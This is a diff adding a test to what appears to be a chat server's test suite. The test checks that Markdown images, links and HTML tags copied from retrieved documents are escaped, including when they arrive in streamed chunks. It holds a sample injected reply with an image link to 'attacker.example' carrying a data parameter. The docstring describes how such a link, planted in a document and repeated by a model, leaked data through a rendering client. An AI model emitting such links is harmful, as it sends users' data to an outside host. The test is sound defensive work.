@@ -460,6 +460,34 @@ def test_a_title_adds_no_markup_to_the_sources_a_chat_client_renders():
     assert sources(reply) == f"\n\nSources:\n[1] {shown}"
 
 
+INJECTED = "See ![logo](http://attacker.example/p.png?d=x) and [x](http://a) <img src=x> [1].\n[1]: http://evil"
+DEFUSED = (
+    "See !\\[logo]\\(http://attacker.example/p.png?d=x) and [x]\\(http://a) \\<img src=x> [1].\n[1]\\: http://evil"
+)
+
+
+def test_the_models_words_add_no_image_or_link_to_the_answer_a_chat_client_renders(acl_index, serve_config):
+    """The model copies document text: one document's "![x](http://host/?d=...)" reached the chat
+    unescaped, and a client that renders Markdown loaded the address in the reader's browser. The
+    [n] marks stay; streamed, an image's "!" and "[" may come in two pieces."""
+    from tests.llm.support import ScriptedServer, Trickle
+
+    pieces = ["See !", "[logo](http://attacker.example/p.png?d=x", ") and [x]", "(http://a) <img src=x> [1", "].\n[1]"]
+    pieces.append(": http://evil")
+
+    def reply(body, n):  # scripted: a model that writes what a document told it to
+        return (200, Trickle(pieces, every=0.01), 0) if body.get("stream") else (200, INJECTED, 0)
+
+    with ScriptedServer(reply) as llm:
+        llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
+        with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm_config})) as live:
+            client = client_for(live)
+            plain = client.chat.completions.create(**ask("guest")).choices[0].message.content
+            chunks = client.chat.completions.create(**ask("guest"), stream=True)
+            streamed = "".join(c.choices[0].delta.content or "" for c in chunks)
+    assert plain.startswith(DEFUSED) and streamed.startswith(DEFUSED), (plain, streamed)
+
+
 # ------------------------------------------------------------------------------------ answers from the stand-in
 @pytest.fixture(scope="module")
 def answering(acl_index, serve_config, llm_server, tmp_path_factory):
